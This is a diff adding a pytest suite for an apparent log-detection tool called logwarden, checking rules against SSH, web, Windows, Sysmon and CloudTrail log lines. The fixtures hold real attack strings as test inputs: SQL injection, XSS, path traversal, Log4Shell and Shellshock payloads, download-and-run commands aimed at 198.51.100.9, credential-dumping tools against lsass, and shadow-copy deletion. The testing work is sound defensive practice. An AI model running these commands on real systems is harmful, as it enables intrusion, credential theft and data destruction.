@@ -1,0 +1,684 @@
+"""Detectors on real-format lines: each shipped rule fires on an attack and stays quiet on a benign
+neighbour; state carries across scan calls; merging, caps and the rule loader's errors."""
+
+from __future__ import annotations
+
+import json
+import re
+from datetime import datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+
+from logwarden.app.detect import Detector, load_rules, url_decode
+from logwarden.app.errors import ConfigError
+from logwarden.app.models import Event, Signal
+
+T0 = datetime(2024, 3, 10, 6, 55, 46)
+UTC0 = datetime(2024, 3, 10, 6, 55, 46, tzinfo=timezone.utc)
+_SYSLOG = re.compile(r"^(\w{3} +\d+ [\d:]{8}) (\S+) ([^\[:]+)(?:\[(\d+)\])?: (.*)$")
+_ACCESS = re.compile(r'^(\S+) (\S+) (\S+) \[([^\]]+)\] "([^"]*)" (\d{3}) (\d+|-) "([^"]*)" "([^"]*)"$')
+
+
+# --- event builders: what the parsers produce for these real-format lines (docs/FIELDS.md) ------
+
+
+def syslog(line: str, line_no: int = 1, source: str = "auth.log") -> Event:
+    stamp, host, program, pid, message = _SYSLOG.match(line).groups()
+    ts = datetime.strptime(f"2024 {stamp}", "%Y %b %d %H:%M:%S")
+    fields = {"program": program} | ({"pid": int(pid)} if pid else {})
+    return Event(source=source, line_no=line_no, offset=0, raw=line, format="syslog", ts=ts, host=host,
+                 program=program, message=message, fields=fields)
+
+
+def access(line: str, line_no: int = 1, source: str = "access.log") -> Event:
+    ip, ident, user, stamp, request, status, size, referrer, agent = _ACCESS.match(line).groups()
+    parts = request.split(" ")
+    fields = {"src_ip": ip, "ident": ident, "status": int(status), "bytes": None if size == "-" else int(size),
+              "referrer": referrer, "user_agent": agent, "request": request}
+    if len(parts) == 3:
+        fields |= {"method": parts[0], "path": parts[1], "protocol": parts[2]}
+    if user != "-":
+        fields["user"] = user
+    ts = datetime.strptime(stamp, "%d/%b/%Y:%H:%M:%S %z")
+    return Event(source=source, line_no=line_no, offset=0, raw=line, format="access", ts=ts,
+                 message=request, fields=fields)
+
+
+def windows(record: dict, line_no: int = 1, ts: datetime = UTC0, source: str = "security.json") -> Event:
+    system, data = record["System"], record.get("EventData", {})
+    fields = {"EventID": system["EventID"], "Channel": system["Channel"], "Provider": system["Provider"],
+              "Computer": system["Computer"], **data}
+    if data.get("IpAddress") not in (None, "-"):
+        fields["src_ip"] = data["IpAddress"]
+    if "TargetUserName" in data:
+        fields["user"] = data["TargetUserName"]
+    summary = " ".join(f"{k}={v}" for k, v in data.items())
+    return Event(source=source, line_no=line_no, offset=0, raw=json.dumps(record), format="windows", ts=ts,
+                 host=system["Computer"], message=f"EventID {system['EventID']} {system['Channel']}: {summary}",
+                 fields=fields)
+
+
+def sysmon1(command_line: str, image: str, line_no: int = 1) -> Event:
+    return windows({"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
+                               "Provider": "Microsoft-Windows-Sysmon", "Computer": "WS01.corp.local"},
+                    "EventData": {"Image": image, "CommandLine": command_line, "User": "CORP\\bob",
+                                  "ParentImage": "C:\\Windows\\explorer.exe"}}, line_no, source="sysmon.json")
+
+
+def cloudtrail(record: dict, line_no: int = 1) -> Event:
+    ident = record.get("userIdentity", {})
+    user = "root" if ident.get("type") == "Root" else ident.get("userName") or ident.get("arn", "").split("/")[-1]
+    fields = {k: record.get(k) for k in ("eventName", "eventSource", "eventType", "awsRegion", "sourceIPAddress",
+                                         "userAgent", "errorCode", "errorMessage", "requestParameters",
+                                         "responseElements", "additionalEventData") if k in record}
+    fields |= {"src_ip": record["sourceIPAddress"], "userIdentity_type": ident.get("type"),
+               "userIdentity_arn": ident.get("arn"), "user": user}
+    ts = datetime.fromisoformat(record["eventTime"].replace("Z", "+00:00"))
+    message = f"{record['eventSource']} {record['eventName']} {user} {record.get('errorCode') or ''}".strip()
+    return Event(source="cloudtrail.json", line_no=line_no, offset=0, raw=json.dumps(record), format="cloudtrail",
+                 ts=ts, message=message, fields=fields)
+
+
+def auditd(line: str, line_no: int = 1) -> Event:
+    record_type = re.match(r"type=(\S+)", line).group(1)
+    body = line.split("): ", 1)[1]
+    fields: dict = {"type": record_type}
+    for key, value in re.findall(r"(\w+)=('[^']*'|\"[^\"]*\"|\S+)", body):
+        if key == "msg":
+            fields |= dict((k, v.strip('"')) for k, v in re.findall(r"(\w+)=(\"[^\"]*\"|\S+)", value.strip("'")))
+        else:
+            fields[key] = value.strip('"')
+    if fields.get("addr", "?") != "?":
+        fields["src_ip"] = fields["addr"]
+    if record_type == "EXECVE":
+        fields["cmdline"] = " ".join(v for k, v in sorted(fields.items()) if re.fullmatch(r"a\d+", k))
+    stamp = float(re.search(r"audit\((\d+\.\d+):", line).group(1))
+    return Event(source="audit.log", line_no=line_no, offset=0, raw=line, format="auditd",
+                 ts=datetime.fromtimestamp(stamp, timezone.utc), program="auditd", message=body, fields=fields)
+
+
+def ssh_lines(template: str, count: int, start: int = 1, seconds: int = 2, host: str = "LabSZ") -> list[Event]:
+    """`count` sshd lines `seconds` apart; `template` gets {i} (a counter) and is the message."""
+    events = []
+    for i in range(count):
+        ts = T0 + timedelta(seconds=seconds * i)
+        line = f"{ts:%b %d %H:%M:%S} {host} sshd[{24200 + i}]: {template.format(i=i)}"
+        events.append(syslog(line, start + i))
+    return events
+
+
+@pytest.fixture(scope="module")
+def rules():
+    return load_rules()
+
+
+@pytest.fixture
+def detector(rules):
+    return Detector(rules)
+
+
+def by_rule(signals: list[Signal], rule_id: str) -> list[Signal]:
+    return [s for s in signals if s.rule_id == rule_id]
+
+
+def fired(signals: list[Signal]) -> set[str]:
+    return {s.rule_id for s in signals}
+
+
+FAILED = "Failed password for invalid user admin from 173.234.31.186 port {i} ssh2"
+
+
+# --- SSH / PAM -----------------------------------------------------------------------------------
+
+
+def test_ssh_brute_force_fires_with_the_failure_line_numbers(detector):
+    events = ssh_lines(FAILED, 6, start=10)
+    signals = by_rule(detector.scan(events), "lw-ssh-bruteforce")
+    assert len(signals) == 1
+    signal = signals[0]
+    assert signal.line_numbers == [10, 11, 12, 13, 14, 15]
+    assert (signal.key, signal.level, signal.category) == ("173.234.31.186", "medium", "brute_force")
+    assert signal.techniques == ["T1110.001"]
+    assert signal.source == "auth.log"
+    assert signal.description.startswith("6 matching lines for src_ip=173.234.31.186")
+
+
+def test_ssh_brute_force_below_threshold_or_spread_out_does_not_fire(detector):
+    assert by_rule(detector.scan(ssh_lines(FAILED, 4)), "lw-ssh-bruteforce") == []
+    slow = ssh_lines(FAILED, 6, start=100, seconds=120)  # one try every two minutes: never 5 in 300 s
+    assert by_rule(Detector(detector.rules).scan(slow), "lw-ssh-bruteforce") == []
+
+
+def test_burst_split_over_two_scans_still_fires_with_both_batches_lines(detector):
+    events = ssh_lines(FAILED, 8, start=1)
+    assert by_rule(detector.scan(events[:3]), "lw-ssh-bruteforce") == []
+    second = by_rule(detector.scan(events[3:6]), "lw-ssh-bruteforce")
+    assert second[0].line_numbers == [1, 2, 3, 4, 5, 6]  # fired at the 5th, the 6th joins the same signal
+    # the burst goes on in a third batch: its lines are reported, the earlier ones are not repeated
+    third = by_rule(detector.scan(events[6:]), "lw-ssh-bruteforce")
+    assert third[0].line_numbers == [7, 8]
+
+
+def test_password_spray_counts_distinct_users(detector):
+    spray = ssh_lines("Failed password for invalid user user{i} from 45.33.12.1 port 5000 ssh2", 6)
+    assert by_rule(detector.scan(spray), "lw-ssh-password-spray")[0].key == "45.33.12.1"
+    one_user = ssh_lines("Failed password for root from 45.33.12.2 port 5000 ssh2", 10)
+    assert by_rule(Detector(detector.rules).scan(one_user), "lw-ssh-password-spray") == []
+
+
+def test_success_after_failures_is_high_and_includes_the_success_line(detector):
+    events = ssh_lines("Failed password for root from 61.177.172.13 port {i} ssh2", 6)
+    events += ssh_lines("Accepted password for root from 61.177.172.13 port 4242 ssh2", 1, start=7)
+    signal = by_rule(detector.scan(events), "lw-ssh-success-after-failures")[0]
+    assert signal.level == "high"
+    assert signal.line_numbers == [1, 2, 3, 4, 5, 6, 7]
+    assert "T1078" in signal.techniques
+
+
+def test_success_without_failures_or_from_another_address_is_not_a_sequence(detector):
+    events = ssh_lines("Failed password for root from 61.177.172.13 port {i} ssh2", 6)
+    events += ssh_lines("Accepted publickey for alice from 10.0.0.8 port 4242 ssh2: RSA SHA256:abc", 1, start=7)
+    signals = detector.scan(events)
+    assert by_rule(signals, "lw-ssh-success-after-failures") == []
+    assert by_rule(signals, "lw-ssh-root-login") == []
+
+
+def test_invalid_user_probe_and_root_login(detector):
+    signals = detector.scan(
+        ssh_lines("Invalid user test from 52.80.34.196 port 36060", 1)
+        + ssh_lines("Accepted publickey for root from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:Zk3", 1, start=2)
+        + ssh_lines("Accepted password for alice from 192.0.2.11 port 50022 ssh2", 1, start=3))
+    assert by_rule(signals, "lw-ssh-invalid-user")[0].key == "52.80.34.196"
+    root = by_rule(signals, "lw-ssh-root-login")
+    assert [(s.key, s.line_numbers, s.level) for s in root] == [("192.0.2.10", [2], "medium")]
+
+
+def test_loghub_linux_pam_failures_count_as_brute_force(detector):
+    lines = [f"Jun 14 15:16:0{i} combo sshd(pam_unix)[1993{i}]: authentication failure; logname= uid=0 euid=0 "
+             f"tty=NODEVssh ruser= rhost=218.188.2.4" for i in range(6)]
+    signals = detector.scan([syslog(line, n) for n, line in enumerate(lines, 1)])
+    assert by_rule(signals, "lw-ssh-pam-bruteforce")[0].key == "218.188.2.4"
+
+
+@pytest.mark.parametrize("line, rule_id, level", [
+    ("Mar 10 07:01:02 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 "
+     "tty=/dev/pts/0 ruser=bob rhost=  user=bob", "lw-sudo-su-auth-failure", "low"),
+    ("Mar 10 07:01:09 web1 sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/bob ; "
+     "USER=root ; COMMAND=/bin/bash", "lw-sudo-su-auth-failure", "low"),
+    ("Mar 10 07:02:00 web1 su[3121]: FAILED SU (to root) mallory on pts/1", "lw-sudo-su-auth-failure", "low"),
+    ("Mar 10 07:03:00 web1 sudo:   mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; USER=root ; "
+     "COMMAND=/usr/bin/id", "lw-sudo-not-in-sudoers", "medium"),
+    ("Mar 10 07:04:00 web1 useradd[4242]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, "
+     "shell=/bin/bash, from=/dev/pts/0", "lw-user-created", "low"),
+    ("Mar 10 07:04:01 web1 usermod[4250]: add 'backdoor' to group 'sudo'", "lw-user-added-to-admin-group", "high"),
+    ("Mar 10 07:04:02 web1 usermod[4250]: add 'backdoor' to shadow group 'wheel'", "lw-user-added-to-admin-group", "high"),
+    ("Mar 10 07:04:03 web1 gpasswd[4260]: user backdoor added by root to group sudo", "lw-user-added-to-admin-group", "high"),
+    ("Mar 10 07:04:04 web1 groupadd[4270]: new group: name=wheel, GID=10", "lw-admin-group-created", "medium"),
+    ("Mar 10 07:05:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/visudo",
+     "lw-sudoers-modified", "high"),
+    ("Mar 10 07:05:01 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
+     "COMMAND=/usr/bin/tee -a /etc/sudoers.d/99-backdoor", "lw-sudoers-modified", "high"),
+    ("Mar 10 07:06:00 web1 passwd[5001]: pam_unix(passwd:chauthtok): password changed for backdoor",
+     "lw-password-changed", "low"),
+])
+def test_local_privilege_rules(detector, line, rule_id, level):
+    signals = by_rule(detector.scan([syslog(line, 42)]), rule_id)
+    assert [(s.line_numbers, s.level) for s in signals] == [([42], level)]
+
+
+@pytest.mark.parametrize("line", [
+    "Mar 10 07:05:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
+    "Mar 10 07:05:00 web1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
+    "Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
+    "Mar 10 07:17:01 web1 CRON[6203]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
+    "Mar 10 07:04:01 web1 usermod[4250]: add 'alice' to group 'docker'",
+    "Mar 10 07:30:00 web1 sshd[811]: Accepted publickey for deploy from 10.1.2.3 port 51000 ssh2: ED25519 SHA256:x",
+    "Mar 10 07:30:05 web1 sshd[811]: pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)",
+    "Mar 10 07:31:00 web1 systemd[1]: Started Session 42 of User deploy.",
+    "Mar 10 07:31:00 web1 kernel: [ 12.345678] EXT4-fs (sda1): mounted filesystem with ordered data mode.",
+])
+def test_benign_syslog_lines_make_no_signal(detector, line):
+    assert detector.scan([syslog(line)]) == []
+
+
+# --- system failures ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("line, rule_id, level", [
+    ("Mar 10 08:00:00 db1 kernel: [123456.789] Kernel panic - not syncing: Fatal exception in interrupt",
+     "lw-kernel-panic", "high"),
+    ("Mar 10 08:00:01 db1 kernel: [123456.790] Out of memory: Killed process 2811 (java) total-vm:8123456kB, "
+     "anon-rss:7000000kB, file-rss:0kB, shmem-rss:0kB, UID:1001 pgtables:14000kB oom_score_adj:0",
+     "lw-oom-kill", "medium"),
+    ("Mar 10 08:00:02 db1 kernel: [ 5123.4] nginx[1822]: segfault at 0 ip 00007f3a1c2b4d5e sp 00007ffd2b3c4d50 "
+     "error 4 in libc-2.31.so[7f3a1c200000+178000]", "lw-segfault", "low"),
+    ("Mar 10 08:00:03 db1 kernel: [ 77.1] blk_update_request: I/O error, dev sda, sector 1953525000 op 0x0:(READ)",
+     "lw-disk-io-error", "medium"),
+    ("Mar 10 08:00:04 db1 kernel: [ 77.2] EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: "
+     "reading directory lblock 0", "lw-disk-io-error", "medium"),
+    ("Mar 10 08:00:05 db1 kernel: [ 77.3] Buffer I/O error on dev sda1, logical block 0, async page read",
+     "lw-disk-io-error", "medium"),
+    ("Mar 10 08:00:06 db1 smartd[655]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors",
+     "lw-smart-failure", "medium"),
+    ("Mar 10 08:00:07 db1 smartd[655]: Device: /dev/sdb [SAT], FAILED SMART self-check. BACK UP DATA NOW!",
+     "lw-smart-failure", "medium"),
+])
+def test_system_failure_rules(detector, line, rule_id, level):
+    signal = by_rule(detector.scan([syslog(line, 5, source="kern.log")]), rule_id)[0]
+    assert (signal.level, signal.category, signal.key, signal.line_numbers) == (level, "system_failure", "db1", [5])
+
+
+def test_smartd_routine_messages_are_quiet(detector):
+    quiet = ["Mar 10 08:00:06 db1 smartd[655]: Device: /dev/sda [SAT], SMART Usage Attribute: 194 "
+             "Temperature_Celsius changed from 36 to 37",
+             "Mar 10 08:00:06 db1 smartd[655]: Device: /dev/sda [SAT], opened"]
+    assert detector.scan([syslog(line) for line in quiet]) == []
+
+
+# --- web -------------------------------------------------------------------------------------------
+
+
+def web(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 "
+        "Firefox/121.0", ip: str = "203.0.113.50", line_no: int = 1, second: int = 0) -> Event:
+    line = (f'{ip} - - [10/Mar/2024:13:55:{second:02d} +0000] "{request}" {status} 512 "-" "{agent}"')
+    return access(line, line_no)
+
+
+@pytest.mark.parametrize("request_line, rule_id", [
+    ("GET /products.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(user(),0x3a,version())--%20- HTTP/1.1", "lw-web-sqli"),
+    ("GET /login.php?user=admin%27%20or%20%271%27%3D%271&pass=x HTTP/1.1", "lw-web-sqli"),
+    ("GET /item?id=1%2527%2520AND%2520SLEEP(5)%2523 HTTP/1.1", "lw-web-sqli"),  # double-encoded
+    ("GET /news?id=-1+union/**/select+1,table_name+from+information_schema.tables HTTP/1.1", "lw-web-sqli"),
+    ("GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", "lw-web-xss"),
+    ("GET /profile?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1", "lw-web-xss"),
+    ("GET /redirect?url=javascript:alert(1) HTTP/1.1", "lw-web-xss"),
+    ("GET /download.php?file=../../../../etc/passwd HTTP/1.1", "lw-web-path-traversal"),
+    ("GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1", "lw-web-path-traversal"),
+    ("GET /static/..%252f..%252f..%252fetc%252fshadow HTTP/1.1", "lw-web-path-traversal"),
+    ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", "lw-web-command-injection"),
+    ("GET /api/exec?cmd=x%7Cid HTTP/1.1", "lw-web-command-injection"),
+    ("GET /shell?c=$(wget%20http://198.51.100.9/x.sh) HTTP/1.1", "lw-web-command-injection"),
+    ("GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1", "lw-web-log4shell"),
+])
+def test_web_attack_payloads(detector, request_line, rule_id):
+    signal = by_rule(detector.scan([web(request_line, status=404)]), rule_id)
+    assert [(s.key, s.category) for s in signal] == [("203.0.113.50", "web_attack")]
+
+
+def test_shellshock_in_user_agent(detector):
+    event = web("GET /cgi-bin/status HTTP/1.1", agent="() { :; }; /bin/bash -c 'curl http://198.51.100.9/x|sh'")
+    assert fired(detector.scan([event])) >= {"lw-web-command-injection"}
+
+
+@pytest.mark.parametrize("request_line", [
+    "GET /products.php?id=42&sort=name HTTP/1.1",
+    "GET /search?q=cats+or+dogs&page=2 HTTP/1.1",
+    "GET /blog/2024/03/select-the-right-union-for-you HTTP/1.1",
+    "GET /static/js/app.3f2a1b.js HTTP/1.1",
+    "GET /docs/getting-started?ref=nav;jsessionid=A1B2 HTTP/1.1",
+    "POST /api/v1/orders HTTP/1.1",
+    "GET /wp-content/themes/shell-theme/style.css HTTP/1.1",
+])
+def test_benign_requests_make_no_signal(detector, request_line):
+    assert detector.scan([web(request_line)]) == []
+
+
+def test_attempts_from_one_address_merge_into_one_signal(detector):
+    events = [web(f"GET /item.php?id={i}%27%20OR%201=1--%20 HTTP/1.1", line_no=i, second=i) for i in range(1, 43)]
+    events.insert(10, web("GET /item.php?id=7%27%20OR%201=1-- HTTP/1.1", ip="198.51.100.1", line_no=100))
+    signals = by_rule(detector.scan(events), "lw-web-sqli")
+    assert [(s.key, len(s.line_numbers)) for s in signals] == [("203.0.113.50", 42), ("198.51.100.1", 1)]
+    assert signals[0].description.startswith("42 matching lines for src_ip=203.0.113.50")
+
+
+def test_line_numbers_are_capped_but_the_count_is_true(rules):
+    events = [web("GET /?id=1%20union%20select%201 HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 1201)]
+    signal = by_rule(Detector(rules).scan(events), "lw-web-sqli")[0]
+    assert len(signal.line_numbers) == 500
+    assert signal.line_numbers[:2] == [1, 2] and signal.line_numbers[-1] == 1200
+    assert signal.description.startswith("1200 matching lines")
+
+
+def test_webshell_success_is_high_and_probe_is_low(detector):
+    hit = detector.scan([web("POST /wp-content/uploads/2024/03/shell.php?cmd=id HTTP/1.1", status=200)])
+    probe = detector.scan([web("GET /c99.php HTTP/1.1", status=404, line_no=2)])
+    assert [(s.rule_id, s.level) for s in hit if "webshell" in s.rule_id] == [("lw-web-webshell-access", "high")]
+    assert [(s.rule_id, s.level) for s in probe] == [("lw-web-webshell-probe", "low")]
+
+
+@pytest.mark.parametrize("agent", [
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "Mozilla/5.0 zgrab/0.x",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "gobuster/3.6",
+    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
+    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+])
+def test_scanner_user_agents_are_medium(detector, agent):
+    signal = by_rule(detector.scan([web("GET / HTTP/1.1", agent=agent)]), "lw-web-scanner-user-agent")
+    assert [(s.level, s.category) for s in signal] == [("medium", "reconnaissance")]
+
+
+def test_many_404s_from_one_client_is_scanning_but_one_404_is_nothing(detector):
+    assert detector.scan([web("GET /favicon.ico HTTP/1.1", status=404)]) == []
+    burst = [web(f"GET /{word} HTTP/1.1", status=404, line_no=i, second=i)
+             for i, word in enumerate(["admin", "backup", "old", "test", "dev"] * 8, start=2)]
+    signal = by_rule(detector.scan(burst), "lw-web-scanning-errors")[0]
+    assert signal.line_numbers == list(range(1, 42))  # the earlier lone 404 (other batch) is part of it
+
+
+def test_many_distinct_paths_is_crawling_but_static_assets_do_not_count(rules):
+    pages = [web(f"GET /page/{i} HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 61)]
+    assets = [web(f"GET /static/img{i}.png HTTP/1.1", line_no=i, second=i % 60) for i in range(1, 200)]
+    assert by_rule(Detector(rules).scan(pages), "lw-web-scanning-distinct-paths")[0].key == "203.0.113.50"
+    assert Detector(rules).scan(assets) == []
+
+
+def test_url_decode_handles_double_encoding_and_plus():
+    assert url_decode("%2527%2520or%25201%253D1") == "' or 1=1"
+    assert url_decode("a+b%20c") == "a b c"
+    assert url_decode("100%") == "100%"
+
+
+# --- Windows ---------------------------------------------------------------------------------------
+
+
+def security(event_id: int, data: dict, channel: str = "Security",
+             provider: str = "Microsoft-Windows-Security-Auditing", line_no: int = 1, ts: datetime = UTC0) -> Event:
+    return windows({"System": {"EventID": event_id, "Channel": channel, "Provider": provider,
+                               "Computer": "DC01.corp.local"}, "EventData": data}, line_no, ts)
+
+
+def failed_logon(i: int, user: str = "administrator", ip: str = "185.220.101.4") -> Event:
+    return security(4625, {"TargetUserName": user, "TargetDomainName": "CORP", "Status": "0xc000006d",
+                           "SubStatus": "0xc000006a", "LogonType": "3", "IpAddress": ip, "IpPort": "0",
+                           "WorkstationName": "-"}, line_no=i, ts=UTC0 + timedelta(seconds=i))
+
+
+def test_windows_logon_failure_burst_and_spray(rules):
+    burst = by_rule(Detector(rules).scan([failed_logon(i) for i in range(1, 13)]), "lw-win-logon-failure-burst")
+    assert burst[0].line_numbers == list(range(1, 11)) + [11, 12]
+    spray = Detector(rules).scan([failed_logon(i, user=f"user{i}") for i in range(1, 6)])
+    assert [s.rule_id for s in spray] == ["lw-win-logon-failure-spray"]
+    assert Detector(rules).scan([failed_logon(i) for i in range(1, 4)]) == []
+
+
+@pytest.mark.parametrize("event_id, data, rule_id, level", [
+    (4720, {"TargetUserName": "svc-backup2", "SubjectUserName": "admin"}, "lw-win-user-created", "medium"),
+    (4732, {"MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "Administrators",
+            "TargetSid": "S-1-5-32-544"}, "lw-win-added-to-privileged-group", "high"),
+    (4728, {"MemberName": "CN=eve,CN=Users,DC=corp,DC=local", "TargetUserName": "Domain Admins",
+            "TargetSid": "S-1-5-21-1-2-3-512"}, "lw-win-added-to-privileged-group", "high"),
+    (4697, {"ServiceName": "UpdaterSvc", "ServiceFileName": "C:\\Program Files\\Updater\\updater.exe"},
+     "lw-win-service-installed", "medium"),
+    (1102, {"SubjectUserName": "admin", "SubjectDomainName": "CORP"}, "lw-win-log-cleared", "high"),
+])
+def test_windows_security_events(detector, event_id, data, rule_id, level):
+    signals = by_rule(detector.scan([security(event_id, data, line_no=9)]), rule_id)
+    assert [(s.level, s.line_numbers) for s in signals] == [(level, [9])]
+
+
+def test_member_added_to_an_ordinary_group_is_quiet(detector):
+    event = security(4732, {"MemberSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "Print Users",
+                            "TargetSid": "S-1-5-21-1-2-3-1200"})
+    assert detector.scan([event]) == []
+
+
+def test_service_installs_from_system_log(detector):
+    scm = "Service Control Manager"
+    plain = security(7045, {"ServiceName": "Google Update", "ImagePath": "\"C:\\Program Files\\Google\\Update\\"
+                             "GoogleUpdate.exe\" /svc", "StartType": "auto start"}, channel="System", provider=scm)
+    psexec = security(7045, {"ServiceName": "BTOBTO", "ImagePath": "%COMSPEC% /Q /c echo whoami ^> "
+                             "\\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat", "StartType": "demand start"},
+                      channel="System", provider=scm, line_no=2)
+    assert fired(detector.scan([plain])) == {"lw-win-service-installed"}
+    assert fired(detector.scan([psexec])) == {"lw-win-service-installed", "lw-win-suspicious-service"}
+
+
+def test_system_104_log_cleared_needs_the_eventlog_provider(detector):
+    cleared = security(104, {"SubjectUserName": "admin", "Channel": "System"}, channel="System",
+                       provider="Microsoft-Windows-Eventlog")
+    other = security(104, {"param1": "x"}, channel="Application", provider="SomeVendorApp")
+    assert fired(detector.scan([cleared])) == {"lw-win-log-cleared"}
+    assert detector.scan([other]) == []
+
+
+@pytest.mark.parametrize("command_line, image, rule_id", [
+    ("powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
+     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "lw-win-powershell-encoded"),
+    ("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"",
+     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "lw-win-powershell-download"),
+    ("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "C:\\Users\\Public\\m.exe",
+     "lw-win-credential-dumping"),
+    ("procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp", "C:\\Tools\\procdump64.exe",
+     "lw-win-credential-dumping"),
+    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\out.dmp full",
+     "C:\\Windows\\System32\\rundll32.exe", "lw-win-credential-dumping"),
+    ("certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
+     "C:\\Windows\\System32\\certutil.exe", "lw-win-certutil-download"),
+    ("regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll", "C:\\Windows\\System32\\regsvr32.exe",
+     "lw-win-regsvr32-scriptlet"),
+    ("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://x/a\")",
+     "C:\\Windows\\System32\\rundll32.exe", "lw-win-rundll32-script"),
+    ("mshta.exe http://198.51.100.9/payload.hta", "C:\\Windows\\System32\\mshta.exe", "lw-win-mshta-remote"),
+    ("bitsadmin /transfer myjob /download /priority high http://198.51.100.9/a.exe C:\\Temp\\a.exe",
+     "C:\\Windows\\System32\\bitsadmin.exe", "lw-win-bitsadmin-transfer"),
+    ("vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe", "lw-win-shadow-copy-deletion"),
+    ("wmic shadowcopy delete", "C:\\Windows\\System32\\wbem\\WMIC.exe", "lw-win-shadow-copy-deletion"),
+    ("wevtutil.exe cl Security", "C:\\Windows\\System32\\wevtutil.exe", "lw-win-wevtutil-clear"),
+])
+def test_suspicious_command_lines(detector, command_line, image, rule_id):
+    signals = detector.scan([sysmon1(command_line, image, line_no=3)])
+    assert rule_id in fired(signals)
+    signal = by_rule(signals, rule_id)[0]
+    assert signal.line_numbers == [3] and signal.source == "sysmon.json"
+    assert signal.level in ("medium", "high", "critical")
+
+
+@pytest.mark.parametrize("command_line, image", [
+    ("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
+     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
+    ("certutil.exe -hashfile C:\\Temp\\setup.exe SHA256", "C:\\Windows\\System32\\certutil.exe"),
+    ("vssadmin.exe list shadows", "C:\\Windows\\System32\\vssadmin.exe"),
+    ("wevtutil.exe qe Security /c:5 /rd:true /f:text", "C:\\Windows\\System32\\wevtutil.exe"),
+    ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\System32\\rundll32.exe"),
+    ("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --enable-features=x",
+     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
+])
+def test_benign_command_lines_make_no_signal(detector, command_line, image):
+    assert detector.scan([sysmon1(command_line, image)]) == []
+
+
+# --- CloudTrail ------------------------------------------------------------------------------------
+
+
+def ct(event_name: str, source: str = "iam.amazonaws.com", identity: dict | None = None, **extra) -> Event:
+    record = {"eventVersion": "1.08", "eventTime": "2024-03-10T12:00:00Z", "eventSource": source,
+              "eventName": event_name, "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23",
+              "userAgent": "aws-cli/2.15.0", "eventType": "AwsApiCall",
+              "userIdentity": identity or {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice",
+                                           "userName": "alice", "accountId": "123456789012"}} | extra
+    return cloudtrail(record, line_no=4)
+
+
+def test_console_login_failure_and_burst(rules):
+    failure = ct("ConsoleLogin", source="signin.amazonaws.com", eventType="AwsConsoleSignIn",
+                 errorMessage="Failed authentication", responseElements={"ConsoleLogin": "Failure"},
+                 additionalEventData={"MFAUsed": "No"})
+    success = ct("ConsoleLogin", source="signin.amazonaws.com", eventType="AwsConsoleSignIn",
+                 responseElements={"ConsoleLogin": "Success"})
+    assert fired(Detector(rules).scan([failure])) == {"lw-aws-console-login-failure"}
+    assert Detector(rules).scan([success]) == []
